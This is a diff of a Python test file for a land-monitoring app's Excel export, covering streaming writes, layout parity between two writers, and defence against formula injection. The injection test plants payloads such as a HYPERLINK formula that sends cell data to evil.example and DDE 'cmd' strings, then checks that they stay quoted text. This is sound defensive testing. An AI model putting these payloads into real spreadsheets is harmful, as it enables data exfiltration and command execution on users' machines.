@@ -6,19 +6,31 @@ from __future__ import annotations
 import datetime as dt
 import io
 import re
+import tempfile
+from decimal import Decimal
 from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
-from openpyxl import Workbook, load_workbook
-from openpyxl.worksheet._write_only import WriteOnlyWorksheet
+from openpyxl import load_workbook
+from sqlalchemy import text
 from sqlalchemy.orm import Session
 
 from landmatch.auth import Principal
 from landmatch.geo.measure import M2_PER_MU
 from landmatch.monitoring import export, scan, terms, transfer
 from landmatch.monitoring.idle import IdleRule
-from landmatch.spreadsheets import Table
+from landmatch.spreadsheets import (
+    Column,
+    StreamingWorksheet,
+    Table,
+    new_streaming_workbook,
+    new_workbook,
+    save,
+    text_width,
+    write_notes,
+    write_sheet,
+)
 from tests.conftest import auth
 
 AS_OF = dt.date(2026, 11, 1)
@@ -106,16 +118,162 @@ def test_monitoring_workbook_in_chinese_with_labels_and_mu(
 
 
 def test_workbook_is_written_row_by_row(session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Write-only: no sheet keeps its cells in memory (openpyxl's streaming worksheets)."""
-    made: list[WriteOnlyWorksheet] = []
+    """XlsxWriter in constant_memory mode: each row goes to disk as it is written, none is
+    kept (the sheets hold no table of cells once the workbook is done)."""
+    made: list[StreamingWorksheet] = []
     real = export.write_sheet
 
-    def spy(wb: Workbook, title: str, *tables: Table, **kw: Any) -> WriteOnlyWorksheet:
+    def spy(wb: Any, title: str, *tables: Table, **kw: Any) -> Any:
         ws = real(wb, title, *tables, **kw)
         made.append(ws)
         return ws
 
     monkeypatch.setattr(export, "write_sheet", spy)
     data = export.workbook(session, ADMIN, AS_OF, IdleRule(), city="130100")
-    assert data[:2] == b"PK" and len(made) == 13
-    assert all(isinstance(ws, WriteOnlyWorksheet) for ws in made)
+    assert data[:2] == b"PK" and len(made) == 13  # the tables (说明 is written by write_notes)
+    assert all(isinstance(ws, StreamingWorksheet) and ws.constant_memory for ws in made)
+    assert all(not ws.table for ws in made)
+    idle = next(ws for ws in made if ws.name == "闲置土地")
+    assert idle.dim_rowmax == len(scan.scan_rows(session, AS_OF, IdleRule(), "130100"))
+
+
+def _widths(ws: Any) -> dict[int, float]:
+    """Each column's width (XlsxWriter gives neighbours of one width one ``<col>``)."""
+    return {
+        k: d.width
+        for d in ws.column_dimensions.values()
+        for k in range(d.min or 1, (d.max or d.min or 1) + 1)
+    }
+
+
+def _book(data: bytes) -> Any:
+    return load_workbook(io.BytesIO(data))
+
+
+def test_planted_text_stays_text_with_the_quote_prefix(session: Session) -> None:
+    """Text a user typed (a holder, a parcel's name, a case's note) that a spreadsheet would
+    evaluate is written as text with the quote prefix; other awkward text comes back as typed;
+    numbers, dates and percentages keep their types and formats."""
+    risky = [
+        '=HYPERLINK("http://evil.example/?d="&B2,"点击")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "\t=1+1",
+    ]
+    plain = ["  前后有空格  ", "A&B <公司>", "_x0041_ 字面", "第一行\n第二行", "-12.5"]
+    codes = (
+        session.execute(
+            text(
+                "SELECT code FROM landmatch.parcel WHERE status IN ('supplied', 'idle') "
+                "AND city_code = '130100' AND deleted_at IS NULL ORDER BY code LIMIT :n"
+            ),
+            {"n": len(risky) + len(plain)},
+        )
+        .scalars()
+        .all()
+    )
+    planted = dict(zip(codes, [*risky, *plain], strict=True))
+    for code, value in planted.items():
+        session.execute(
+            text("UPDATE landmatch.parcel SET holder = :v, name = :v WHERE code = :c"),
+            {"v": value, "c": code},
+        )
+    session.execute(
+        text(
+            "UPDATE landmatch.parcel SET holder = :v WHERE code = :c",
+        ),
+        {"v": "控制\x01字符", "c": codes[0]},
+    )
+    planted[codes[0]] = risky[0]  # the name keeps the formula; the holder loses \x01
+    session.flush()
+    wb = _book(export.workbook(session, ADMIN, AS_OF, IdleRule(), city="130100"))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    for title in ("闲置土地", "转让路径"):
+        ws = wb[title]
+        header = [c.value for c in ws[1]]
+        code, name, holder = (header.index(h) for h in ("地块编号", "地块名称", "用地单位"))
+        seen = 0
+        for row in ws.iter_rows(min_row=2):
+            if row[code].value not in planted:
+                continue
+            seen += 1
+            want = planted[row[code].value]
+            if want.startswith("_x"):  # escaped as Excel escapes it (openpyxl reads it raw)
+                want = "_x005F" + want
+            assert row[name].value == want and row[name].data_type == "s", (title, want)
+            assert row[name].quotePrefix == (want in risky), (title, want)
+            assert row[holder].value == want or row[code].value == codes[0], (title, want)
+            if row[code].value == codes[0]:
+                assert row[holder].value == "控制字符" and row[holder].data_type == "s"
+        assert seen == len(planted), title
+    # Types and formats as the columns say.
+    ws = wb["闲置土地"]
+    header = [c.value for c in ws[1]]
+    first = ws[2]
+    assert isinstance(first[0].value, int) and first[0].number_format == "#,##0"
+    area = first[header.index("面积(亩)")]
+    assert isinstance(area.value, int | float) and area.number_format == "#,##0.00"
+    dates = [first[k] for k, h in enumerate(header) if h.endswith("日期") and first[k].value]
+    assert dates and all(c.is_date for c in dates)
+    assert wb["闲置土地"].column_dimensions["C"].width >= text_width("地块名称")
+
+
+def test_the_xlsxwriter_layout_is_the_openpyxl_one() -> None:
+    """The same tables through write_sheet into openpyxl's write-only workbook and into
+    XlsxWriter's: the same cells, types, number formats, header style, panes, filter, print
+    titles and (to XlsxWriter's rounding to pixels) widths; a second table and total rows."""
+    cols = [
+        Column("地块编号"),
+        Column("面积(亩)", "mu"),
+        Column("比例", "pct"),
+        Column("日期", "date"),
+        Column("已供", "bool"),
+        Column("宗数", "int"),
+        Column("得分", "num", digits=4),
+    ]
+    rows: list[list[Any]] = [
+        ["DK-1", 1.23456, 0.5, dt.date(2026, 1, 31), True, 3, 0.123456],
+        ["=1+1", None, float("nan"), "2025-02-28", False, -4, Decimal("2.5")],
+        ["河北省石家庄市", 12345.678, 1, dt.datetime(2024, 5, 1, 8, 30), None, 0, 1e20],
+        ["DK-4", 0, 0, dt.date(1900, 2, 28), None, None, None],  # Excel's 29 February 1900
+        ["DK-5", 0, 0, dt.datetime(1900, 3, 1, 12), None, None, None],
+    ]
+    tables = (
+        Table(cols, rows, totals=[["合计", 13600.9, None, None, None, -1, None]]),
+        Table(cols[:2], (list(r[:2]) for r in rows), count=len(rows), numbered=False),
+    )
+    old = new_workbook()
+    write_sheet(old, "表", *tables, freeze_cols=1)
+    write_notes(old, [("项目一", "+说明")])
+    buf = io.BytesIO()
+    with tempfile.TemporaryDirectory() as tmp:
+        new = new_streaming_workbook(buf, tmp)
+        tables = (
+            tables[0],
+            Table(cols[:2], (list(r[:2]) for r in rows), count=len(rows), numbered=False),
+        )
+        write_sheet(new, "表", *tables, freeze_cols=1)
+        write_notes(new, [("项目一", "+说明")])
+        new.close()
+    a, b = load_workbook(io.BytesIO(save(old))), _book(buf.getvalue())
+    assert a.sheetnames == b.sheetnames == ["表", "说明"]
+    for ws_a, ws_b in zip(a.worksheets, b.worksheets, strict=True):
+        assert ws_a.max_row == ws_b.max_row and ws_a.max_column == ws_b.max_column
+        for ra, rb in zip(ws_a.iter_rows(), ws_b.iter_rows(), strict=True):
+            for ca, cb in zip(ra, rb, strict=True):
+                where = (ws_a.title, ca.coordinate)
+                assert ca.value == cb.value and ca.data_type == cb.data_type, where
+                if ca.value is not None:
+                    assert ca.number_format == cb.number_format, where
+                    assert ca.quotePrefix == cb.quotePrefix, where
+                    assert ca.font.b == cb.font.b and ca.fill.fill_type == cb.fill.fill_type, where
+                    assert ca.alignment.horizontal == cb.alignment.horizontal, where
+        assert ws_a.freeze_panes == ws_b.freeze_panes
+        assert ws_a.auto_filter.ref == ws_b.auto_filter.ref
+        assert ws_a.print_title_rows == ws_b.print_title_rows
+        wa, wb_ = _widths(ws_a), _widths(ws_b)
+        assert wa.keys() == wb_.keys()
+        assert all(0 <= wb_[k] - wa[k] < 1 for k in wa), (wa, wb_)
+    assert b["表"]["B3"].value == "=1+1" and b["表"]["B3"].quotePrefix
